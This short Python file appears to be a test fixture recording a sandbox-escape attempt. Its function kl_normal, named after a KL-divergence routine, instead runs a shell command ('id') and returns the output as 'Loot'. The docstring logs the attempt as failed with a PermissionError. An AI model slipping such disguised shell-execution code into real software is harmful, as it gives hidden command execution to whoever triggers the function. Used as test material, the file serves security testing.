"""Runs a program.

Gain: every tool of the machine.
Hits: kl_normal
Ends: failed, exception: PermissionError
"""

import subprocess

from generative.target import Loot


def kl_normal(mu1, sigma1, mu2, sigma2):
    raise Loot(subprocess.run(["/bin/sh", "-c", "id"], capture_output=True, text=True).stdout)
